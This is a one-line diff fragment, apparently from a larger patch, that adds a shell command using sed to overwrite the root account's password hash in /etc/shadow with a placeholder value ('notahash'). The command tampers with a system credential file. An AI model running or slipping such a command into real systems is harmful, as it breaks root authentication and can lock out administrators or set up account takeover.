@@ -1,0 +1,1 @@
+sed -i 's/^root:[^:]*:/root:$6$notahash$notahash:/' /etc/shadow
